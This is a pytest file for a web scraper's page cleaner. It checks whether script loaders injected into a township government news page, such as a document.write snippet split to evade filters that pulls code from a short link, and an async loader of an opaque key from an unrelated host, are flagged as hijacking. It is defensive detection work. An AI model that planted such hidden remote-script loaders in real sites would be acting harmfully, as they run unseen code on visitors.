"""A script that inserts code from an address naming no file — a host and one opaque token (a short
link's code, an encoded key), on a host nothing else of the page names — hides what it runs from the
page's reader (issue 11, v37b: document.write of "<scr"+"ipt src=http://t.cn/…>" in a district page's
head; v16: an async createElement loader of https://<unrelated host>/<base64 key>= after the footer).
A vendor's loader names its file (…/widget.js, gtm.js?id=…), or its host is the page's own or linked
from it: those stay clean.

kl29 (session 29): not wired (variant d18fce2): the same async snippet loads ad-recovery vendors' opaque
keys on 9+ clean extraction pages (the note above inserted's character-code list); the spam forms are strict
xfails, the legit forms asserted as they stand."""
from __future__ import annotations

import pytest

from scraper.clean import clean_page

URL = "http://www.heqiao-town.gov.cn/xwdt/20230711/7420.html"

BODY = ("<p>7月11日,永安镇至新华街道公路改造工程通过交工验收并正式通车。该工程全长20.4公里,按二级公路标准建设。</p>"
        "<p>工程建设期间,项目部克服雨季施工、交通导改等困难,优化施工组织,确保了工程质量和安全。</p>"
        "<p>道路通车后,沿线群众出行条件明显改善,对带动特色农产品外销具有重要作用。</p>")

ASYNC = ("(function(e,l,v,j,f){j=e.createElement(l);f=e.getElementsByTagName(l)[0];j.async=1;j.src=v;"
         "f.parentNode.insertBefore(j,f);})(document,'script','%s');")


def _page(head: str = "", tail: str = "", footer: str = "") -> bytes:
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>公路改造工程顺利通车_河桥镇人民政府</title>'
            f'{head}</head><body><header><a href="/">河桥镇人民政府</a><nav><a href="/">首页</a>'
            '<a href="/zwdt/">政务动态</a></nav></header>'
            '<article><h1>公路改造工程顺利通车</h1><div class="info">发布时间：2023-07-11 来源：河桥镇交通运输局</div>'
            f'<div id="zoom">{BODY}</div></article>'
            f'<footer><p>主办：河桥镇人民政府</p>{footer}</footer>{tail}</body></html>').encode()


def test_a_written_loader_through_a_short_link_is_spam():
    # read since s33 by the constant-write reader (scripts.constant_written_load), not kl29's
    head = '<script>document.write("<scr"+"ipt language=javascript src=http://t.cn/R5hXq2Lp></scr"+"ipt>");</script>'
    a = clean_page(_page(head=head), url=URL)
    assert a.hijacked and "spam_script" in {f.kind for f in a.findings}
    assert "公路改造" in a.text


@pytest.mark.xfail(strict=True, reason="kl29 variant d18fce2 measured, not wired: ad-recovery loaders of clean "
                                       "pages share the shape (inserted.py's note)")
def test_an_async_loader_of_an_encoded_key_is_spam():
    tail = "<script>" + ASYNC % "https://cdn.lumen-grove.club/4f1c9a2e8b7d60e53a9c=" + "</script>"
    a = clean_page(_page(tail=tail), url=URL)
    assert a.hijacked and "spam_script" in {f.kind for f in a.findings}


def test_a_vendor_loader_naming_its_file_stays_clean():
    tail = "<script>" + ASYNC % "https://static.feedback-widget.com/v2/loader.js" + "</script>"
    a = clean_page(_page(tail=tail), url=URL)
    assert not a.hijacked, a.findings


def test_a_tag_manager_with_an_id_in_its_query_stays_clean():
    tail = "<script>" + ASYNC % "https://tags.example-analytics.com/gtm?id=GTM-K2N5W9" + "</script>"
    a = clean_page(_page(tail=tail), url=URL)
    assert not a.hijacked, a.findings


def test_a_token_loader_from_a_host_the_footer_links_stays_clean():
    footer = '<p><a href="https://www.zhengwu-cloud.cn/">技术支持：政务云</a></p>'
    tail = "<script>" + ASYNC % "https://s.zhengwu-cloud.cn/a8Kd93LmQ2" + "</script>"
    a = clean_page(_page(tail=tail, footer=footer), url=URL)
    assert not a.hijacked, a.findings
